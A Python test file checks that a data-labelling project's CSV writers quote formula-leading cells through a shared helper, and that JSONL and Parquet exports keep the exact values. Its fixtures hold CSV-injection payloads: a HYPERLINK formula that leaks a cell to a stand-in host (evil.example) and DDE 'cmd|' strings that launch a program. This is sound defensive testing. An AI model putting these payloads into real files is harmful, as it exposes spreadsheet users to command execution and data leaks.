"""CSV injection: every CSV Tessera writes opens in a spreadsheet as text, never as a live formula.

The class of bug: a user-controlled string (external id, label text, username, import field name)
starting with = + - @ (or tab / CR) written into a CSV cell as is. One helper closes it
(core.spreadsheet.spreadsheet_safe); these tests read each writer's output back with real CSV readers
(the stdlib, pandas) and check that no module writes CSV without the helper. JSON and Parquet keep
the exact value.
"""

import ast
import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest

from core.spreadsheet import FORMULA_TRIGGERS, spreadsheet_safe

from .conftest import make_records

ROOT = Path(__file__).resolve().parents[2]

HOSTILE = {
    "external_id": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "transcript": "+cmd|' /C calc'!A0",
    "sentiment": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def hostile_records():
    records = make_records(4)
    first = records[0]
    labels = {**first.labels, "transcript": HOSTILE["transcript"], "sentiment": HOSTILE["sentiment"]}
    records[0] = replace(first, external_id=HOSTILE["external_id"], labels=labels)
    second = records[1]
    records[1] = replace(second, external_id="\t=1+1", labels={**second.labels, "transcript": "\r=1+1"})
    return records


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1"])
def test_helper_prefixes_every_trigger_with_a_quote(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "a=b", "", " =1", "'=1", 3, -2.5, None])
def test_helper_leaves_everything_else_alone(value):
    assert spreadsheet_safe(value) == value


def test_release_csv_cells_are_neutralised_for_csv_readers(write_format, ctx):
    root, _, _ = write_format("csv", hostile_records(), ctx)

    raw = (root / "csv/train.csv").read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    frame = pd.read_csv(root / "csv/train.csv", dtype=str, keep_default_na=False)

    first, second = rows[0], rows[1]
    assert first["external_id"] == "'" + HOSTILE["external_id"]
    assert first["label.transcript"] == "'" + HOSTILE["transcript"]
    assert first["label.sentiment"] == "'" + HOSTILE["sentiment"]
    assert second["external_id"] == "'\t=1+1"
    assert second["label.transcript"] == "'\r=1+1"
    assert frame.loc[0, "external_id"] == "'" + HOSTILE["external_id"]
    for row in rows:  # no cell of any row starts with a trigger
        assert not any(str(value).startswith(FORMULA_TRIGGERS) for value in row.values()), row
    # numbers stay numbers (a negative confidence would not be quoted; JSON cells start with { or [)
    assert float(first["confidence.sentiment"]) == 0.5


def test_release_jsonl_and_parquet_keep_the_exact_values(write_format, ctx):
    records = hostile_records()
    jsonl_root, _, _ = write_format("jsonl", records, ctx, sub="jsonl")
    parquet_root, _, _ = write_format("parquet", records, ctx, sub="parquet")

    line = json.loads((jsonl_root / "jsonl/train.jsonl").read_text(encoding="utf-8").splitlines()[0])
    table = pq.read_table(parquet_root / "parquet/train.parquet").to_pylist()
    assert line["external_id"] == HOSTILE["external_id"]
    assert table[0]["external_id"] == HOSTILE["external_id"]
    assert table[0]["label.transcript"] == HOSTILE["transcript"]
    assert table[1]["external_id"] == "\t=1+1"


def test_import_error_report_is_neutralised():
    from annotation.imports.services.reports import _ErrorReport

    report = _ErrorReport()
    report.add(3, '=HYPERLINK("http://evil.example")', "-bad value @A1")
    report.file.seek(0)
    rows = list(csv.reader(report.file))
    report.file.close()

    assert rows[1] == ["3", '\'=HYPERLINK("http://evil.example")', "'-bad value @A1"]


def _csv_writing_modules() -> list[Path]:
    found = []
    for path in ROOT.glob("*/**/*.py"):
        if path.parts[len(ROOT.parts)] in {".venv", "tests", "frontend", "bench", "node_modules"}:
            continue
        text = path.read_text(encoding="utf-8")
        if "csv.writer" in text or "csv.DictWriter" in text:
            found.append(path)
    return found


def test_every_module_that_writes_csv_uses_the_shared_helper():
    """New CSV writers must route text cells through core.spreadsheet.spreadsheet_safe."""
    modules = _csv_writing_modules()
    assert {p.relative_to(ROOT).as_posix() for p in modules} >= {
        "exports/formats/csv.py",
        "quality/api.py",
        "annotation/imports/services/reports.py",
    }
    for path in modules:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        imported = {
            alias.name
            for node in ast.walk(tree)
            if isinstance(node, ast.ImportFrom) and node.module == "core.spreadsheet"
            for alias in node.names
        }
        assert "spreadsheet_safe" in imported, f"{path} writes CSV without core.spreadsheet.spreadsheet_safe"
